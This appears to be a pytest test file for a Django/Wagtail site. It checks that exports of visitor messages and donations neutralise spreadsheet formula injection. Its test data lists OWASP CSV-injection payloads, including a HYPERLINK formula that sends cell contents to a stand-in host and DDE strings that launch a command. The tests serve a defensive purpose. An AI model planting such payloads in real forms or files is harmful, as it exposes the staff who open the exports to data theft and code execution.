"""Exports of messages and donations: what a visitor typed never runs in a spreadsheet."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest
from wagtail.contrib.forms.models import FormSubmission

from campaigns.models import Donation
from tests.factories import ContactPageFactory

pytestmark = pytest.mark.django_db

# What spammers and attackers type into names and messages (OWASP's CSV injection).
HOSTILE = [
    '=HYPERLINK("http://evil.example/steal?d="&A1,"Open the report")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
EVIL_LABEL = '=HYPERLINK("http://evil.example","Reply")'


def body_of(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response):
    return list(csv.reader(io.StringIO(body_of(response).decode("utf-8-sig"), newline="")))


@pytest.fixture
def messages(home):
    page = ContactPageFactory(
        parent=home,
        fields=[("Your name", "singleline"), ("Your message", "multiline"), (EVIL_LABEL, "number")],
    )
    for hostile in HOSTILE:
        FormSubmission.objects.create(
            page=page,
            form_data={
                "your_name": hostile,
                "your_message": hostile,
                "hyperlinkhttpevilexamplereply": "-5",
            },
        )
    FormSubmission.objects.create(
        page=page,
        form_data={
            "your_name": "Hanako",
            "your_message": "How can I help? - Hanako",
            "hyperlinkhttpevilexamplereply": "2",
        },
    )
    return page


def export_messages(client, page, spreadsheet_format):
    return client.get(f"/admin/forms/submissions/{page.pk}/", {"export": spreadsheet_format})


def test_messages_exported_as_csv_run_no_formula(admin_client, messages):
    header, *rows = csv_rows(export_messages(admin_client, messages, "csv"))
    assert header[1:] == ["Your name", "Your message", "'" + EVIL_LABEL]
    neutralised = ["'" + hostile for hostile in HOSTILE]
    assert [row[1] for row in rows] == [*neutralised, "Hanako"]
    assert [row[2] for row in rows] == [*neutralised, "How can I help? - Hanako"]
    assert [row[3] for row in rows] == ["-5"] * len(HOSTILE) + ["2"]  # numbers stay numbers


def test_messages_exported_as_xlsx_are_text_not_formulas(admin_client, messages):
    response = export_messages(admin_client, messages, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body_of(response))).active
    header, *rows = list(sheet.iter_rows())
    assert header[3].data_type == "s"
    # Unchanged, as text (XML turns a carriage return into a line feed).
    assert [row[1].value for row in rows] == [h.replace("\r", "\n") for h in HOSTILE] + ["Hanako"]
    assert {row[1].data_type for row in rows} == {"s"}


def test_donations_exported_as_csv_run_no_formula_and_keep_their_amounts(admin_client):
    for day, hostile in enumerate(HOSTILE, start=1):
        Donation.objects.create(
            amount=Decimal(3000),
            channel="paypal",
            donor_name=hostile,
            note=hostile,
            date_received=datetime.date(2014, 5, day),
        )
    # A refund, as a negative amount (the admin form refuses one; an import might not),
    # from an anonymous donor: the export writes "-" for the empty name.
    Donation.objects.create(
        amount=Decimal(-1500), channel="transfer", date_received=datetime.date(2014, 4, 1)
    )
    export = admin_client.get("/admin/campaigns/donation/", {"export": "csv"})
    header, *rows = csv_rows(export)
    column = {heading: index for index, heading in enumerate(header)}
    newest_first = [*reversed(HOSTILE)]
    assert [row[column["Donor Name"]] for row in rows] == ["'" + h for h in newest_first] + ["-"]
    assert [row[column["Note"]] for row in rows] == ["'" + h for h in newest_first] + ["-"]
    assert [row[column["Amount"]] for row in rows] == ["3000.00"] * len(HOSTILE) + ["-1500.00"]
